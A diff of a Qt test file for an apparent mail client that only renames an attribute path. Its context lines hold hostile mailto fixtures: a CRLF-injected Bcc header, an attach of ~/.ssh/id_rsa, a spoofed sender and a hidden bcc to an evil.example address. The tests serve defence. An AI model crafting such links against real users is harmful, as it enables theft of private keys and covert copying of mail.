@@ -140,10 +140,10 @@ def test_mailto_opens_a_prefilled_composer_that_shows_what_was_refused(qtbot, wi
             "&subject=Order%207781%0D%0ABcc:%20x@evil.example&body=Please%20confirm%0D%0AThanks"
             "&attach=~/.ssh/id_rsa&attachment=C:%5CUsers%5Cmei%5Ccontract.pdf&from=ceo@harbor.example"
             "&in-reply-to=%3Corder7781@customer.example%3E")
-    before = len(window.composers)
+    before = len(window.compose.composers)
     window.reader.mailtoRequested.emit(href)
-    assert len(window.composers) == before + 1
-    composer = window.composers[-1]
+    assert len(window.compose.composers) == before + 1
+    composer = window.compose.composers[-1]
     qtbot.waitUntil(lambda: composer.is_ready and composer.to_field.text() != "", timeout=20000)
     assert composer.to_field.text() == "buyer@customer.example"
     assert composer.cc_field.text() == "boss@customer.example"
@@ -181,7 +181,7 @@ def test_a_hidden_copy_asked_for_by_a_mailto_link_is_pointed_out(qtbot, window: 
     # the Bcc field is visible, but a rep writing to the address of the link does not expect
     # the link to have added a hidden recipient
     window.reader.mailtoRequested.emit("mailto:accounts@buyer.example?bcc=collect@evil.example")
-    composer = window.composers[-1]
+    composer = window.compose.composers[-1]
     qtbot.waitUntil(lambda: composer.is_ready and composer.bcc_field.text() != "", timeout=20000)
     assert composer.bcc_field.text() == "collect@evil.example"
     notice = composer.mailto_notice
